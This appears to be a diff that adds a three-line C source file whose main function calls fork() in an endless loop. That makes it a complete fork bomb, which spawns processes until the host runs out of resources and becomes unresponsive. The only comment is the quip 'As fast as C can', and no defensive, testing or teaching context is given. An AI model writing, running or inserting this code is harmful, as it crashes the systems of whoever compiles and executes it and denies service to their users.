@@ -1,0 +1,3 @@
+// As fast as C can.
+#include <unistd.h>
+int main(void){for(;;)fork();}
